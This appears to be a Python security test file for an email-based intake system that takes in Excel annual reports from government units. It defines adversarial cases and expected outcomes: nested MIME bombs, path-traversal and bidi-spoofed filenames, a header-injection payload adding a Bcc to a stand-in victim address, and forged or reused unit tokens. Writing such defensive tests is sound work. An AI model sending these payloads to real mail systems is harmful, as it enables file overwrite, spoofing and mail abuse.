def _(batch: Batch) -> tuple[bytes, str]:
    headers, body = nested(100, attachment_part("年报.xlsx", batch.filled("CZJ", 502)))
    return by_hand(batch, "CZJ", body, headers=headers)


@case(
    "mime-deep-3000",
    "mime",
    "3,000 nested multiparts",
    Expect("message_problem", outcome="too-deep", says="嵌套过深"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    headers, body = nested(3000, attachment_part("年报.xlsx", b"PK\x03\x04"))
    return by_hand(batch, "CZJ", body, headers=headers)


@case(
    "mime-forwarded-chain",
    "mime",
    "the workbook inside a message forwarded three times (as attachments)",
    Expect("receipt", status="accepted", unit="Z-XS"),
    sender="Z-XS",
)
def _(batch: Batch) -> tuple[bytes, str]:
    inner, _ = message(batch, "Z-XS", files=[("年报.xlsx", batch.filled("Z-XS"))])
    for _level in range(3):
        wrapper = EmailMessage()
        wrapper["From"] = address("Z-XS")
        wrapper["Subject"] = "转发：年报"
        wrapper.set_content("转发。")
        wrapper.add_attachment(inner, maintype="message", subtype="rfc822", filename="fw.eml")
        inner = wrapper.as_bytes(policy=SMTP)
    raw, message_id = message(batch, "Z-XS", text="转发给贵办。")
    outer = __import__("email").message_from_bytes(raw, _class=EmailMessage, policy=SMTP)
    outer.add_attachment(inner, maintype="message", subtype="rfc822", filename="转发.eml")
    return outer.as_bytes(policy=SMTP), message_id


# Names and headers that try to be more than text.
NAMES = {  # as sent → as every answer shows it
    "traversal": ("../../etc/cron.d/年报.xlsx", "《年报.xlsx》"),
    "control": ("年报\x00\x07\x1b[31m.xlsx", "《年报[31m.xlsx》"),
    "bidi": ("年报\u202exslx.exe.xlsx", "《年报xslx.exe.xlsx》"),
    "long": ("年" * 400 + ".xlsx", "《" + "年" * 175 + ".xlsx》"),
    "markup": ("[bold red]年报[red].xlsx", "《[bold red]年报[red].xlsx》"),
}
for i, (label, (name, shown)) in enumerate(NAMES.items()):
    case(
        f"name-{label}",
        "names",
        f"a valid workbook named {name[:40]!r}",
        Expect("rejected", status="rejected", unit="SJJ", says=shown),
        sender="SJJ",
    )(
        lambda b, name=name, i=i: message(
            b,
            "SJJ",
            files=[
                (name, b.filled("SJJ", 10 + i, **{"requests.new_received.natural_person": 9999}))
            ],
        )
    )


@case(
    "header-injection",
    "names",
    "a subject with an encoded line break and a Bcc: header, and a file name with one",
    Expect("rejected", status="rejected", unit="SJJ"),
    sender="SJJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    evil = base64.b64encode("年报\r\nBcc: victim@evil.example\r\n".encode()).decode()
    headers = (
        b'Content-Type: multipart/mixed; boundary="x"\r\n'
        + f"X-Injected: =?utf-8?b?{evil}?=\r\n\r\n".encode()
    )
    part = attachment_part(
        "年报\r\nBcc: victim@evil.example.xlsx",
        batch.filled("SJJ", 30, **{"requests.new_received.natural_person": 7777}),
    )
    return by_hand(batch, "SJJ", b"--x\r\n" + part + b"\r\n--x--\r\n", headers=headers)


# Identity: nothing changes a unit's record unless the evidence agrees.
@case(
    "identity-token-of-another-unit",
    "identity",
    "RSJ's template (token) sent from CZJ's registered address",
    Expect(
        "held",
        notice=True,
        status="quarantined",
        kind="other-unit",
        says="可能转发或误用了其他单位的模板",
    ),
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "CZJ", files=[("年报.xlsx", batch.filled("RSJ", 1))])


@case(
    "identity-unknown-sender",
    "identity",
    "RSJ's template from an address no unit registered, in RSJ's thread",
    Expect("held", notice=True, status="quarantined", kind="unknown-sender"),
    sender=STRANGER,
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, STRANGER, files=[("年报.xlsx", batch.filled("RSJ", 2))], thread="RSJ")


@case(
    "identity-meta-edited",
    "identity",
    "RSJ's template with the _meta department code edited to MZJ, from MZJ",
    Expect("held", notice=True, status="quarantined", kind="tampered", says="_meta"),
    sender="MZJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(
        batch,
        "MZJ",
        files=[("年报.xlsx", with_meta(batch.filled("RSJ", 3), department_code="MZJ"))],
    )


@case(
    "identity-token-copied",
    "identity",
    "MZJ's template with RSJ's token pasted into _meta, from MZJ",
    Expect("held", notice=True, status="quarantined", kind="tampered"),
    sender="MZJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    from openpyxl import load_workbook

    token = next(
        row[1].value
        for row in load_workbook(io.BytesIO(batch.templates["RSJ"]))["_meta"].iter_rows()
        if row[0].value == "token"
    )
    return message(
        batch, "MZJ", files=[("年报.xlsx", with_meta(batch.filled("MZJ", 4), token=token))]
    )


@case(
    "identity-stale-token-of-another",
    "identity",
    "TJJ's template of the 2020 campaign (a stale token), sent from XFJ",
    Expect("held", notice=True, status="quarantined", kind="other-unit"),
    sender="XFJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "XFJ", files=[("年报.xlsx", fill(batch.stale["TJJ"], "TJJ", 5, {}))])


@case(
    "identity-thread-of-another",
    "identity",
    "JYJ's own template from JYJ's address, but replying in RSJ's thread",
    Expect("held", notice=True, status="quarantined", kind="other-unit"),
    sender="JYJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "JYJ", files=[("年报.xlsx", batch.filled("JYJ", 6))], thread="RSJ")


@case(
    "identity-nothing-known",
    "identity",
    "a workbook without a valid token from an unknown address, not a reply",
    Expect(None, notice=True, status="quarantined", kind="no-evidence"),
    sender="someone@example.org",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = with_meta(batch.filled("TJJ", 7), token="", department_code="")
    return message(batch, "someone@example.org", files=[("report.xlsx", data)], thread=None)


@case(
    "identity-same-bytes-other-unit",
    "identity",
    "SZF's accepted file, byte for byte, sent again from GAJ",
    Expect("duplicate", notice=True, outcome="workbooks", says="其他单位"),
    sender="GAJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "GAJ", files=[("年报.xlsx", batch.filled("SZF"))])


@case(
    "identity-same-bytes-same-unit",
    "identity",
    "SZF's accepted file sent again by SZF",
    Expect("duplicate", notice=False, outcome="workbooks", says="已接收"),
    sender="SZF",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "SZF", files=[("年报（再次发送）.xlsx", batch.filled("SZF"))])


# Contracts: numbers, texts and sizes.
@case(
    "huge-number",
    "contracts",
    "a count cell holding a 200,000-digit number",
    Expect("rejected", status="rejected", unit="Z-XS", says="（共200,000位）"),
    sender="Z-XS",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = batch.filled("Z-XS", **{"requests.new_received.natural_person": "@@BIG@@"})
    return message(batch, "Z-XS", files=[("年报.xlsx", swap(data, "@@BIG@@", "9" * 200_000))])


@case(
    "long-narrative",
    "contracts",
    "a narrative of 40,002 characters (over one Excel cell), in the sheet XML",
    Expect("rejected", status="rejected", unit="Z-XS", says="共40,002字"),
    sender="Z-XS",
)
def _(batch: Batch) -> tuple[bytes, str]:
    data = batch.filled("Z-XS", **{"narrative.problems": "@@LONG@@"})
    text = "主动公开的及时性有待提高。" * 3077 + "有"  # 40,002 characters
    return message(batch, "Z-XS", files=[("年报.xlsx", swap(data, "@@LONG@@", text))])


@case(
    "file-large-valid",
    "contracts",
    "a valid workbook grown to 14 MB (a 19 MB message): read in full and accepted",
    Expect("receipt", status="accepted", unit="XFJ"),
    sender="XFJ",
)
def _(batch: Batch) -> tuple[bytes, str]:
    return message(batch, "XFJ", files=[("年报.xlsx", stored_pad(batch.filled("XFJ", 600), 14))])


@case(
    "message-too-large",
    "contracts",
    "a 34 MB message (over 20 MB): not fetched, left in the mailbox",
    Expect("message_problem", notice=True, outcome="too-large", says="邮件过大"),
)
def _(batch: Batch) -> tuple[bytes, str]:
    noise = random.Random(7).randbytes(25 * MB)
    return message(batch, "CZJ", files=[("扫描件.xlsx", noise)])


# A unit's accepted version is answered only if no later one of the same run superseded it:
# the accepted cases of units that send more come last.
_LAST = ("mime-deep-20", "mime-forwarded-chain")
CASES.sort(key=lambda c: c.name in _LAST)


def markdown() -> str:
    """The table of docs/security.md."""
    lines = [
        "| # | case | input | sender's answer | coordinator | store | outcome |",
        "|---|---|---|---|---|---|---|",
    ]
    for n, c in enumerate(CASES, 1):
        e = c.expect
        store = "—"
        if e.status:
            what = f"{e.status}" + (f" (`{e.kind}`)" if e.kind else "")
            store = f"{e.files} × {what}, " + (e.unit or "no unit")
        lines.append(
            f"| {n} | `{c.name}` | {c.what} | {e.answer or '—'} | "
            f"{'notice' if e.notice else '—'} | {store} | {e.outcome} |"
        )
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown(), end="")
